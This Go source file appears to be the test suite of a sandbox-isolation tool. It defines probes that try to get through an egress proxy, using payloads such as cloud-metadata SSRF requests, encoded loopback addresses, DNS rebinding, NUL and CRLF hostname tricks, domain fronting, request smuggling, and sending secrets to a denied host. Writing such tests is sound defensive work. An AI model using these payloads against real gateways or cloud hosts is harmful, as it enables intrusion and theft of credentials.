package breakout

import (
	"fmt"

	"proofbox/internal/box"
)

// gateways is the part of group J that asks the gateway: the box may connect to
// some names of a [World], and tries to get further. The twin's gateway is a
// proxy that connects wherever it is told to.
func gateways() []Probe {
	get := func(to string) string {
		return "GET http://" + to + "/{token} HTTP/1.1\r\nHost: " + allowedName + "\r\n\r\n"
	}
	tls := func(to, name string) []string { return []string{"proxy-tls", tunnel(to), name, "{token}"} }
	upgrade := func(to string) string {
		return "GET http://" + allowedName + "/{token} HTTP/1.1\r\nHost: " + allowedName +
			"\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: " + to + "\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"
	}
	beyond := Setting{Nothing: true}
	probes := []Probe{
		{ID: "J2d", Title: "name the host's loopback by IPv6", Attack: says(tunnel("[::1]:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J2e", Title: "name the host's loopback behind a NAT64", Attack: says(tunnel("[64:ff9b::7f00:1]:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J2f", Title: "name a host of the link by IPv6", Attack: says(tunnel("[fe80::1]:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J7c", Title: "have the gateway ask for the metadata of a cloud", Attack: says(get("169.254.169.254"), ""), Oracle: heard("inside")},
		{ID: "J7d", Title: "have the gateway ask for the metadata of a cloud by IPv6", Attack: says(get("[fd00:ec2::254]"), ""), Oracle: heard("inside")},
		{ID: "J7e", Title: "have the gateway ask for the metadata of a cloud by its name", Attack: says(get("metadata.google.internal"), ""), Oracle: heard("inside")},
		{ID: "J7f", Title: "have the gateway ask for the metadata of other clouds", Attack: says(get("100.100.100.200"), ""), Oracle: heard("inside")},
		{ID: "J7g", Title: "have the gateway ask for the metadata of a cloud by an allowed name", Attack: tls(metadataName+":443", metadataName), Oracle: heard("inside")},
		{ID: "J8a", Title: "name the host's loopback as one number", Attack: says(tunnel("2130706433:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J8b", Title: "name the host's loopback in octal", Attack: says(tunnel("0177.0.0.01:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J8c", Title: "name the host's loopback in hexadecimal, cut short", Attack: says(tunnel("0x7f.1:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J8d", Title: "name the host's loopback as IPv4 in IPv6", Attack: says(tunnel("[::ffff:7f00:1]:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J9c", Title: "name the host as containers know it", Attack: says(tunnel("host.docker.internal:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J9d", Title: "name the host by its address in its network", Attack: says(tunnel("{lan-address}:8443"), "{token}"), Oracle: onlyWith("lan", heard("inside"))},
		{ID: "J9e", Title: "name the host by its address in a network of containers", Attack: says(tunnel("172.17.0.1:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J11", Title: "tell a resolver something by the name that it is asked for", Attack: says(tunnel("{token}."+deniedName+":443"), ""), Oracle: heard("resolver")},
		{ID: "J12c", Title: "ask a resolver of its own choice through the gateway", Attack: says(tunnel(ofOthers.String()+":53"), "{token}"), Oracle: heard("outside")},
		{ID: "J13b", Title: "ask a resolver by HTTPS (DoH)", Attack: tls("dns.google:443", "dns.google"), Oracle: heard("outside")},
		{ID: "J14a", Title: "connect to the host by an allowed name that leads there", Attack: tls(insideName+":443", insideName), Oracle: heard("inside")},
		{ID: "J14b", Title: "connect to the host by an allowed name that has moved there (rebinding)", Attack: tls(movingName+":443", movingName), Oracle: heard("inside")},
		{ID: "J15", Title: "have an allowed name mean the host, in a hosts file of the box's own", Attack: []string{"spoof-hosts", loopback.String(), allowedName, "{token}"}, Oracle: heard("inside")},
		{ID: "J16", Title: "connect to an address, and name an allowed host in TLS", Attack: tls(ofOthers.String()+":443", allowedName), Oracle: heard("outside")},
		{ID: "J17a", Title: "name another host in TLS than the tunnel is to", Attack: tls(allowedName+":443", deniedName), Oracle: heard("outside")},
		{ID: "J17b", Title: "name another host in a request than the tunnel is to", Attack: says(tunnel(allowedName+":80"), "GET /{token} HTTP/1.1\r\nHost: "+deniedName+"\r\n\r\n"), Oracle: heard("outside")},
		{ID: "J18a", Title: "name no host in TLS", Attack: tls(allowedName+":443", ""), Oracle: heard("outside")},
		{ID: "J18b", Title: "name an allowed host in TLS, and another one encrypted (ECH)", Attack: []string{"proxy-ech", tunnel("{token}." + wildName + ":443"), "{token}." + wildName, deniedName}, Oracle: heard("outside")},
		{ID: "J18c", Title: "speak TLS with an address", Attack: tls(ofOthers.String()+":443", ofOthers.String()), Oracle: heard("outside")},
		{ID: "J19a", Title: "speak another protocol on the port of TLS", Attack: says(tunnel(allowedName+":443"), "SSH-2.0-{token}\r\n"), Oracle: heard("outside")},
		{ID: "J19b", Title: "speak mail on the port of TLS, which would begin it later (STARTTLS)", Attack: says(tunnel(allowedName+":443"), "EHLO {token}\r\nSTARTTLS\r\n"), Oracle: heard("outside")},
		{ID: "J20a", Title: "ask for a tunnel to a host that is not allowed", Attack: tls(deniedName+":443", deniedName), Oracle: heard("outside")},
		{ID: "J20b", Title: "ask for a tunnel inside of a tunnel", Attack: says(tunnel(allowedName+":80"), "CONNECT {token}."+deniedName+":443 HTTP/1.1\r\nHost: "+allowedName+"\r\n\r\n"), Oracle: heard("outside")},
		{ID: "J20c", Title: "ask for a tunnel by a relay in the box", Attack: []string{"relay", tunnel(deniedName + ":8443"), "{token}"}, Oracle: heard("outside")},
		{ID: "J21a", Title: "end a name with an allowed one, behind a NUL", Attack: says(tunnel(deniedName+`\0`+"."+allowedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21b", Title: "put an allowed name before an @", Attack: says(get(allowedName+"@"+deniedName), ""), Oracle: heard("outside")},
		{ID: "J21c", Title: "begin a name with an allowed one", Attack: says(tunnel(allowedName+"."+deniedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21d", Title: "end a name with an allowed one, without a dot", Attack: says(tunnel("not"+allowedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21e", Title: "end a name with an allowed one, behind a line end", Attack: says(tunnel(deniedName+"\r."+allowedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21f", Title: "end a name that is not allowed with a dot", Attack: says(tunnel(deniedName+".:8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21g", Title: "write a name that is not allowed in capitals", Attack: says(tunnel("DENIED.EXAMPLE.COM:8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21h", Title: "use a name that looks like an allowed one", Attack: says(tunnel("\u0430llowed.example.com:8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21i", Title: "use a name with an empty label", Attack: says(tunnel("denied.."+allowedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21j", Title: "ask by SOCKS5, with a name that ends with an allowed one behind a NUL", Attack: []string{"proxy-socks", deniedName + `\0.` + allowedName, "8443", "{token}"}, Oracle: heard("outside")},
		{ID: "J23a", Title: "connect where nothing is allowed", Attack: tls(allowedName+":443", allowedName), Oracle: heard("outside"), Box: beyond},
		{ID: "J23b", Title: "use another port of an allowed host", Attack: says(tunnel(allowedName+":22"), "SSH-2.0-{token}\r\n"), Oracle: heard("outside")},
		{ID: "J24a", Title: "use a wildcard for the name that it is made of", Attack: tls(wildName+":443", wildName), Oracle: heard("outside")},
		{ID: "J24b", Title: "use a wildcard for two labels", Attack: tls("a.b."+wildName+":443", "a.b."+wildName), Oracle: heard("outside")},
		{ID: "J24c", Title: "use a wildcard for a name that it only ends", Attack: tls("not"+wildName+":443", "not"+wildName), Oracle: heard("outside")},
		{ID: "J25a", Title: "have a connection become HTTP/2, which nobody would read", Attack: says(upgrade("h2c"), ""), Oracle: heard("outside")},
		{ID: "J25b", Title: "have a connection become a WebSocket, which nobody would read", Attack: says(upgrade("websocket"), ""), Oracle: heard("outside")},
		{ID: "J25c", Title: "hide a request for another host in the body of one (smuggling)", Attack: says(
			"POST http://"+allowedName+"/ HTTP/1.1\r\nHost: "+allowedName+"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+
				"GET /{token} HTTP/1.1\r\nHost: "+deniedName+"\r\n\r\n", ""), Oracle: heard("outside")},
		{ID: "J26", Title: "send more to an allowed host than it may be sent", Attack: []string{"proxy", tunnel(allowedName + ":8443"), "{token}", fmt.Sprint(2 * uploadBytes)}, Oracle: eventually("outside")},
	}
	probes = append(probes, inspected()...)
	for i := range probes {
		probes[i].Twin = Setting{Weakness: box.Weakness{Gateway: true}}
		probes[i].Itself = true
		probes[i].UserOnly = true // the gateway does not know who asks
	}
	return probes
}

// inspected is the part that asks for what is looked at on the way: requests that
// may not pass, and secrets. The twin's box has the secrets themselves.
func inspected() []Probe {
	fronted := tunnel(securedName + ":443")
	return []Probe{
		{ID: "J17c", Title: "name another host in a request than the proxy is asked for (domain fronting)", Attack: []string{"proxy-opened", fronted, "GET", "/open/{token}", "Host: " + deniedName}, Oracle: heard("secure")},
		{ID: "J25d", Title: "send by a method that may not pass", Attack: []string{"proxy-opened", fronted, "POST", "/open/{token}"}, Oracle: heard("secure")},
		{ID: "J25e", Title: "have a request become one by another method", Attack: []string{"proxy-opened", fronted, "GET", "/open/{token}", "X-HTTP-Method-Override: POST"}, Oracle: heard("secure")},
		{ID: "J25f", Title: "leave the paths that may pass by dots", Attack: []string{"proxy-opened", fronted, "GET", "/open/../{token}"}, Oracle: heard("secure")},
		{ID: "J25g", Title: "leave the paths that may pass by encoded dots", Attack: []string{"proxy-opened", fronted, "GET", "/open/%2e%2e%2f{token}"}, Oracle: heard("secure")},
		{ID: "J27a", Title: "send a secret to a host that it is not for", Attack: says("GET http://"+allowedName+"/ HTTP/1.1\r\nHost: "+allowedName+"\r\nAuthorization: Bearer {token}$"+secretName+"\r\n\r\n", ""), Oracle: tellsSecret("outside")},
		{ID: "J27b", Title: "send a secret in a body, where none is put in", Attack: says("POST http://"+allowedName+"/ HTTP/1.1\r\nHost: "+allowedName+"\r\nTransfer-Encoding: chunked\r\n\r\n48\r\n{token}$"+secretName+"\r\n0\r\n\r\n", ""), Oracle: tellsSecret("outside")},
		{ID: "J27c", Title: "have a server say a secret again", Attack: []string{"proxy-opened", fronted, "GET", "/open/{token}", "Authorization: Bearer $" + secretName}, Oracle: learnsSecret()},
		{ID: "J27d", Title: "have a server say a secret again, encoded", Attack: []string{"proxy-opened", fronted, "GET", "/open/{token}/base64", "Authorization: Bearer $" + secretName}, Oracle: learnsSecret()},
		{ID: "J29b", Title: "send before the rules are there", Not: nowhereFor("no rule is what keeps a box from the network, so there is no such time")},
		{ID: "J29a", Title: "go on where the host was taken away", Attack: []string{"proxy-stream", tunnel(allowedName + ":8443"), "{token}"}, Oracle: goesOn(allowedName, "outside"), Alone: true},
	}
}

// tunnel is a request for one.
func tunnel(to string) string {
	return "CONNECT " + to + " HTTP/1.1\r\nHost: " + allowedName + "\r\n\r\n"
}

// says is an attack that says something to the proxy, and something more where
// that gives a tunnel.
func says(first, then string) []string { return []string{"proxy", first, then, "0"} }
